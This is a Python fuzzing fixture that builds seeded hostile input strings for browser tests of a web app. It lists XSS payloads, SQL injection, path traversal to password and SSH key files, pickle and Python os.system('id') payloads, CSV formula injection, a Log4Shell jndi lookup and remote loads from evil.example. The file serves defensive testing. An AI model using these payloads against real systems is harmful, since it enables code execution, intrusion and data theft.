"""Hostile strings, the same ones for the same seed: what a visitor may type, upload or link to.

Every one of them that could run as script would call `window.hurt`, which the browser tests
listen to.
"""

import random
from collections.abc import Sequence
from typing import Final

RUN: Final = "window.hurt=1"
WORDS: Final = "evil words"
"""What the markup makes bold, a heading, a formula; no page of ours has anything that begins so."""

TAGS: Final = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=`x`onerror={RUN}>",
    f'"><svg onload={RUN}>',
    f"'><svg/onload={RUN}//",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f'<iframe src="javascript:parent.{RUN}">',
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<math><mtext></mtext><mglyph><style><img src onerror={RUN}>",
    f"<style>@import 'javascript:{RUN}'</style>",
    f"<a href=javascript:{RUN}>a</a>",
    f"<form action=javascript:{RUN}><button>b</button></form>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example>",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[",
    "</textarea>",
    "</title>",
    "</style>",
    "<template shadowrootmode=open>",
    "<plaintext>",
)
MARKUP: Final = (
    f"[{WORDS}](javascript:{RUN})",
    f"[{WORDS}](JaVaScRiPt&colon;{RUN})",
    f"![{WORDS}](x){{onerror={RUN}}}",
    f"![{WORDS}](https://evil.example/a.png)",
    f"<javascript:{RUN}>",
    "<https://evil.example>",
    f"[{WORDS}]: https://evil.example",
    "https://evil.example",
    "www.evil.example",
    "mail@evil.example",
    f"# {WORDS}",
    f"* {WORDS}",
    f"1. {WORDS}",
    f"> {WORDS}",
    "---",
    "```",
    f"`{WORDS}`",
    "~~~",
    f"**{WORDS}**",
    f"__{WORDS}__",
    f"*{WORDS}*",
    f"~~{WORDS}~~",
    f"| {WORDS} | b |",
    "|-|-|",
    "[^1]",
    "&lt;img&gt;",
    "&#60;script&#62;",
    f"&#x3C;img src=x onerror={RUN}>",
    f"$\\href{{javascript:{RUN}}}{{{WORDS}}}$",
    f"$$\\url{{javascript:{RUN}}}$$",
    "$\\includegraphics{https://evil.example/a.png}$",
    f"$\\htmlData{{onclick={RUN}}}{{{WORDS}}}$",
    f"${WORDS}^2$",
    f"\\({WORDS}\\)",
    f"\\[{WORDS}\\]",
    f":red[{WORDS}]",
    f":red-background[{WORDS}]",
    ":material/bug_report:",
    ":smile:",
    ":streamlit:",
    f":small[:red[{WORDS}]]",
    "-> <- <-> --",
    "{{a}}",
    "{% a %}",
    "${a}",
    "#{a}",
    "%(a)s",
    "{0.__class__}",
    "%s%n",
    "%{customdata}",
    "%{x:.3f}",
    "<extra></extra>",
    f"<b>{WORDS}</b><br><i>{WORDS}</i>",
    f'<a href="javascript:{RUN}">{WORDS}</a>',
    f"<sub>{WORDS}</sub>",
)
CODE: Final = (
    f"javascript:{RUN}",
    f"data:text/html,<script>parent.{RUN}</script>",
    f"vbscript:{RUN}",
    f"';{RUN};//",
    f'";{RUN};//',
    f"`;{RUN};//",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"%253Cimg%2520onerror%253D{RUN}%253E",
    f"expression({RUN})",
    "url(//evil.example/a.css)",
    "}*{background:url(//evil.example)}",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\con",
    "~/.ssh/id_rsa",
    "model\0.safetensors",
    "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
    "cos\nsystem\n(S'id'\ntR.",
    "__import__('os').system('id')",
    "'; DROP TABLE visitors; --",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "-1",
    "${jndi:ldap://evil.example}",
    "\r\nSet-Cookie: a=b",
    '{"a": ["b"]}',
    "__proto__",
    "constructor",
    "toString",
    "null",
    "undefined",
    "NaN",
    "Infinity",
    "-0",
    "1e999",
    "٣",
    "②",
)
SIGNS: Final = (
    "\0",
    "\x07",
    "\x1b[31m",
    "\x7f",
    "\x85",
    "\u200b",
    "\u2028",
    "\u2029",
    "\u202e",
    "\u2066",
    "\ufeff",
    "\ufffe",
    "\U000e0041",
    "\u2060",
    "\u0300" * 60,
    "e\u0301\u0323" * 20,
    "🏳️‍🌈",
    "👩‍👩‍👧‍👦",
    "﷽",
    "ǅ",
    "ﬁ",
    "İ",
    "ß",
    "𝔞",
    "漢字",
    "שלום",
    "x" * 300,
    "[MASK]",
    "[SEP]",
    "[CLS]",
    "[PAD]",
    "[unused1]",
    "##ing",
    "\t",
    "\r\n",
    "\n\n",
    " " * 40,
    '"',
    "'",
    "\\",
    "`",
    "&",
    "<",
    ">",
    ",",
    ";",
    "=",
)
BLOCKS: Final = (*TAGS, *MARKUP, *CODE, *SIGNS)
LONE: Final = ("\ud800", "\udfff")
"""Halves of characters: a script in the browser can send them, an address cannot."""


def hostile_strings(count: int, *, seed: int, blocks: Sequence[str] = BLOCKS) -> list[str]:
    """Every block by itself first, then random compositions of several."""
    chance = random.Random(seed)
    found = list(blocks[:count])
    return found + [_composed(chance, blocks) for _ in range(count - len(found))]


def hostile_sentences(count: int, *, composed: int, seed: int) -> list[str]:
    """Sentences with every block in one of them, and some compositions of several.

    count: how many sentences; each begins with markup, much of which is none elsewhere in a line,
        if there are no more than of MARKUP
    """
    chance = random.Random(seed)
    others = [*TAGS, *CODE, *SIGNS, *(_composed(chance, BLOCKS) for _ in range(composed))]
    strings = chance.sample(MARKUP, len(MARKUP)) + chance.sample(others, len(others))
    return [" ".join(strings[first::count]) for first in range(count)]


def _composed(chance: random.Random, blocks: Sequence[str]) -> str:
    glue = chance.choice(("", " ", "\n", "<", '"', ">", "\\"))
    return glue.join(chance.choices(blocks, k=chance.randint(2, 5)))
